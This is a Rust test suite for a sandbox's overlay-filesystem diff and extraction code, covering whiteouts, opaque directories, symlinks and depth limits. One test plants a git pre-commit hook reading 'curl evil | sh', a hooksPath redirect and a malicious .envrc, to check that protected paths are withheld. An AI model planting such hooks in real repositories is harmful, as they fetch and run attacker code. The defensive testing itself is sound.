use std::fs;
use std::path::Path;
use std::process::Command;

use super::*;
use crate::fs::testutil::*;

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn added_and_modified_files_and_links() {
    let l = Layers::new();
    l.lower_file("src/same.ts", "same")
        .lower_file("src/changed.ts", "old")
        .lower_file("src/grown.ts", "a")
        .lower_file("src/mode.sh", "echo")
        .lower_link("src/link", "same.ts")
        .lower_link("src/samelink", "same.ts")
        .lower_file("src/was-file", "x");
    // Copied up but unchanged: not reported.
    l.upper_file("src/same.ts", "same")
        .upper_link("src/samelink", "same.ts")
        // Same size, other bytes.
        .upper_file("src/changed.ts", "new")
        .upper_file("src/grown.ts", "ab")
        .upper_file("src/mode.sh", "echo")
        .upper_mode("src/mode.sh", 0o755)
        .upper_link("src/link", "changed.ts")
        .upper_link("src/was-file", "same.ts")
        .upper_file("src/new/deep/file.ts", "n")
        .upper_link("src/newlink", "new");
    let d = l.diff(&["src/"]);
    assert_eq!(d.added, strings(&["src/new/deep/file.ts", "src/newlink"]));
    assert_eq!(d.modified, strings(&["src/changed.ts", "src/grown.ts", "src/link", "src/mode.sh", "src/was-file"]));
    assert!(d.deleted.is_empty());
    assert!(d.withheld.is_empty());
}

#[test]
fn whiteouts_delete_files_and_whole_directories() {
    for form in whiteout_forms() {
        let l = Layers::new();
        l.lower_file("src/gone.ts", "x")
            .lower_file("src/kept.ts", "x")
            .lower_file("src/old/a.ts", "a")
            .lower_file("src/old/sub/b.ts", "b")
            .lower_link("src/old/l", "a.ts");
        l.upper_dir("src").whiteout("src/gone.ts", form).whiteout("src/old", form);
        // A whiteout for something the lower never had reports nothing.
        l.whiteout("src/never.ts", form);
        let d = l.diff(&["src/"]);
        assert_eq!(d.deleted, strings(&["src/gone.ts", "src/old/a.ts", "src/old/l", "src/old/sub/b.ts"]), "{form:?}");
        assert!(d.added.is_empty() && d.modified.is_empty(), "{form:?}: {d:?}");
    }
}

#[test]
fn a_zero_size_file_without_the_attribute_is_a_file() {
    let l = Layers::new();
    l.lower_file("src/empty", "was not empty");
    l.upper_file("src/empty", "").upper_file("src/new-empty", "");
    let d = l.diff(&["src/"]);
    assert_eq!(d.modified, strings(&["src/empty"]));
    assert_eq!(d.added, strings(&["src/new-empty"]));
}

#[test]
fn opaque_directories_hide_what_the_lower_had() {
    let l = Layers::new();
    l.lower_file("src/a.ts", "a")
        .lower_file("src/b.ts", "b")
        .lower_file("src/sub/c.ts", "c")
        .lower_file("other/x", "x");
    // `rm -rf src && mkdir src && echo a > src/a.ts && echo B > src/b.ts`
    l.opaque("src").upper_file("src/a.ts", "a").upper_file("src/b.ts", "B").upper_file("src/new.ts", "n");
    let d = l.diff(&["./"]);
    assert_eq!(d.added, strings(&["src/new.ts"]));
    assert_eq!(d.modified, strings(&["src/b.ts"]));
    assert_eq!(d.deleted, strings(&["src/sub/c.ts"]));
}

#[test]
fn the_opaque_value_x_is_not_opaque() {
    let l = Layers::new();
    l.lower_file("src/a.ts", "a");
    l.upper_dir("src").upper_file("src/n.ts", "n");
    set_xattr(&l.upper.join("src"), "user.overlay.opaque", b"x");
    let d = l.diff(&["src/"]);
    assert_eq!(d.added, strings(&["src/n.ts"]));
    assert!(d.deleted.is_empty(), "{d:?}");
}

#[test]
fn trusted_attributes_count_too() {
    // Only root may set trusted.*; as another user the user.* tests cover it.
    let l = Layers::new();
    l.lower_file("src/a.ts", "a");
    l.upper_dir("src");
    let path = std::ffi::CString::new(l.upper.join("src").as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: NUL-terminated strings; a one-byte value.
    let rc = unsafe { libc::lsetxattr(path.as_ptr(), c"trusted.overlay.opaque".as_ptr(), b"y".as_ptr().cast(), 1, 0) };
    if rc == 0 {
        assert_eq!(l.diff(&["src/"]).deleted, strings(&["src/a.ts"]));
    } else {
        assert_eq!(std::io::Error::last_os_error().raw_os_error(), Some(libc::EPERM));
    }
}

#[test]
fn type_changes_between_files_and_directories() {
    let l = Layers::new();
    l.lower_file("src/dir-now-file/a.ts", "a").lower_file("src/file-now-dir", "f").lower_link("src/link-now-dir", ".");
    // The overlay marks a directory made over a whiteout opaque.
    l.upper_file("src/dir-now-file", "f").opaque("src/file-now-dir").upper_file("src/file-now-dir/b.ts", "b");
    l.opaque("src/link-now-dir").upper_file("src/link-now-dir/c.ts", "c");
    let d = l.diff(&["src/"]);
    assert_eq!(d.added, strings(&["src/dir-now-file", "src/file-now-dir/b.ts", "src/link-now-dir/c.ts"]));
    assert_eq!(d.deleted, strings(&["src/dir-now-file/a.ts", "src/file-now-dir", "src/link-now-dir"]));
}

#[test]
fn only_output_paths_are_reported() {
    for form in whiteout_forms() {
        let l = Layers::new();
        l.lower_file("src/gone.ts", "x").lower_file("README.md", "r").lower_file("node_modules/x/index.js", "x");
        l.upper_file("src/a.ts", "a")
            .upper_file("src/a.js", "a")
            .upper_file("package.json", "{}")
            .upper_file("README.md", "changed")
            .upper_file("node_modules/y/index.js", "y")
            .whiteout("src/gone.ts", form)
            .whiteout("node_modules/x", form);
        let d = l.diff(&["src/**/*.ts", "package.json"]);
        assert_eq!(d.added, strings(&["package.json", "src/a.ts"]));
        assert!(d.modified.is_empty());
        assert_eq!(d.deleted, strings(&["src/gone.ts"]));

        assert_eq!(l.diff(&[]), Diff::default());
        let all = l.diff(&["./"]);
        assert_eq!(all.added, strings(&["node_modules/y/index.js", "package.json", "src/a.js", "src/a.ts"]));
        assert_eq!(all.modified, strings(&["README.md"]));
        assert_eq!(all.deleted, strings(&["node_modules/x/index.js", "src/gone.ts"]));
    }
}

#[test]
fn protected_paths_are_withheld_unless_named_literally() {
    for form in whiteout_forms() {
        let l = Layers::new();
        l.lower_file(".git/config", "[core]").lower_file(".git/objects/ab/cdef", "obj").lower_file(".bashrc", "rc");
        l.upper_file(".git/hooks/pre-commit", "curl evil | sh")
            .upper_file(".git/config", "[core]\nhooksPath = /tmp/x")
            .upper_file(".vscode/tasks.json", "{}")
            .upper_file(".mcp.json", "{}")
            .upper_file("sub/.envrc", "evil")
            .upper_file("src/a.ts", "a")
            .whiteout(".bashrc", form)
            .whiteout(".git/objects", form);
        let d = l.diff(&["./"]);
        assert_eq!(d.added, strings(&["src/a.ts"]));
        assert!(d.modified.is_empty() && d.deleted.is_empty(), "{d:?}");
        assert_eq!(
            d.withheld,
            strings(&[
                ".bashrc",
                ".git/config",
                ".git/hooks/pre-commit",
                ".git/objects/ab/cdef",
                ".mcp.json",
                ".vscode/tasks.json",
                "sub/.envrc"
            ])
        );

        let d = l.diff(&["./", ".mcp.json", ".git/hooks/pre-commit", ".bashrc"]);
        assert_eq!(d.added, strings(&[".git/hooks/pre-commit", ".mcp.json", "src/a.ts"]));
        assert_eq!(d.deleted, strings(&[".bashrc"]));
        assert_eq!(d.withheld, strings(&[".git/config", ".git/objects/ab/cdef", ".vscode/tasks.json", "sub/.envrc"]));
    }
}

#[test]
fn links_in_either_tree_are_never_followed() {
    let outside = tempfile::TempDir::new().unwrap();
    fs::write(outside.path().join("secret"), "s").unwrap();
    let l = Layers::new();
    // Lower `src/lib` is a link to a directory outside; the sandbox replaced
    // it with a real (opaque) directory. The outside's files are not "deleted".
    l.lower_link("src/lib", outside.path().to_str().unwrap());
    l.opaque("src/lib").upper_file("src/lib/new.ts", "n");
    // An upper link to a directory outside is a link, not a directory to walk.
    l.upper_link("src/out", outside.path().to_str().unwrap());
    let d = l.diff(&["src/"]);
    assert_eq!(d.added, strings(&["src/lib/new.ts", "src/out"]));
    assert_eq!(d.deleted, strings(&["src/lib"]));
}

#[test]
fn special_files_are_reported_for_extraction_to_refuse() {
    let l = Layers::new();
    fifo(&l.upper.join("fifo"));
    let _ = std::os::unix::net::UnixListener::bind(l.upper.join("sock")).unwrap();
    let d = l.diff(&["./"]);
    assert_eq!(d.added, strings(&["fifo", "sock"]));
}

#[test]
fn names_that_are_not_utf8_fail_only_under_output() {
    use std::os::unix::ffi::OsStrExt;
    let l = Layers::new();
    l.upper_dir("src").upper_dir("tmp");
    fs::write(l.upper.join("tmp").join(std::ffi::OsStr::from_bytes(b"bad\xff")), "x").unwrap();
    assert_eq!(l.diff(&["src/"]), Diff::default());
    fs::write(l.upper.join("src").join(std::ffi::OsStr::from_bytes(b"bad\xff")), "x").unwrap();
    let err = diff(&l.upper, &l.lower, &OutputMatcher::new(["src/"]).unwrap()).unwrap_err();
    assert!(matches!(fs_error(&err), FsError::NotUtf8 { .. }), "{err}");
    assert!(err.to_string().contains("src/bad"), "{err}");
}

#[test]
fn depth_is_bounded_without_overflowing_the_stack() {
    let l = Layers::new();
    // Built one level at a time, relative to an open directory.
    let mut dir = fs::File::open(&l.upper).unwrap();
    for part in std::iter::once("src").chain(std::iter::repeat_n("d", MAX_DEPTH + 5)) {
        use std::os::fd::{AsRawFd, FromRawFd};
        let name = std::ffi::CString::new(part).unwrap();
        // SAFETY: plain syscalls on an open directory fd and NUL-terminated names.
        unsafe {
            assert_eq!(libc::mkdirat(dir.as_raw_fd(), name.as_ptr(), 0o755), 0);
            let fd = libc::openat(dir.as_raw_fd(), name.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
            assert!(fd >= 0);
            dir = fs::File::from_raw_fd(fd);
        }
    }
    let err = diff(&l.upper, &l.lower, &OutputMatcher::new(["src/"]).unwrap()).unwrap_err();
    assert!(matches!(fs_error(&err), FsError::TooDeep { .. }), "{err}");
    // Outside OUTPUT the deep tree is not even read.
    assert_eq!(l.diff(&["lib/"]), Diff::default());
}

#[test]
fn missing_roots_are_errors_naming_them() {
    let l = Layers::new();
    let missing = l.root.join("nope");
    let err = diff(&missing, &l.lower, &OutputMatcher::new(["./"]).unwrap()).unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::NotFound);
    assert!(err.to_string().contains(missing.to_str().unwrap()), "{err}");
}

/// A real unprivileged overlay: mount it with `unshare -Urm` (a user and mount
/// namespace, as the sandbox does), change things through it, and check that
/// the upper it leaves reads as those changes, and that extracting them into
/// a copy of the lower gives the merged view.
#[test]
fn a_real_userxattr_overlay() {
    let l = Layers::new();
    l.lower_file("a", "a")
        .lower_file("keep", "k")
        .lower_file("touched", "t")
        .lower_file("d1/b", "b")
        .lower_file("d2/c", "c")
        .lower_file("d3/e", "e")
        .lower_link("sl", "a")
        .lower_file("mode.sh", "#!/bin/sh");
    let (work, merged, snapshot) = (l.root.join("work"), l.root.join("merged"), l.root.join("snapshot"));
    for dir in [&work, &merged] {
        fs::create_dir(dir).unwrap();
    }
    let options =
        format!("lowerdir={},upperdir={},workdir={},userxattr", l.lower.display(), l.upper.display(), work.display());
    let script = format!(
        "set -e; mount -t overlay overlay -o '{options}' '{m}'; cd '{m}'; \
         rm a; rm -rf d1; mkdir d1; echo new > d1/n; rm -rf d2; echo x > d3/x; chmod 600 d3/e; \
         rm sl; ln -s d3 sl; mv d3 d4; chmod 755 mode.sh; touch touched; echo z > new; \
         mkdir -p deep/er && echo q > deep/er/q; cp -a '{m}/.' '{s}'",
        m = merged.display(),
        s = snapshot.display(),
    );
    let out = Command::new("unshare").args(["--user", "--map-root-user", "--mount", "sh", "-c", &script]).output();
    let out = out.expect("unshare (util-linux) runs");
    assert!(
        out.status.success(),
        "an unprivileged overlay must mount here (DESIGN.md): {}",
        String::from_utf8_lossy(&out.stderr)
    );

    let d = l.diff(&["./"]);
    assert_eq!(d.added, strings(&["d1/n", "d4/e", "d4/x", "deep/er/q", "new"]));
    assert_eq!(d.modified, strings(&["mode.sh", "sl"]));
    assert_eq!(d.deleted, strings(&["a", "d1/b", "d2/c", "d3/e"]));

    copy_tree(&l.lower, &l.dest);
    let written = l.extract(&["./"]).expect("extract");
    assert_eq!(
        written,
        strings(&["a", "d1/b", "d1/n", "d2/c", "d3/e", "d4/e", "d4/x", "deep/er/q", "mode.sh", "new", "sl"])
    );
    assert_eq!(tree(&l.dest), tree(&snapshot));
    assert!(!l.dest.join("d2").exists() && !l.dest.join("d3").exists(), "removed directories are gone");
    assert!(Path::new(&l.dest.join("d4")).is_dir());
}
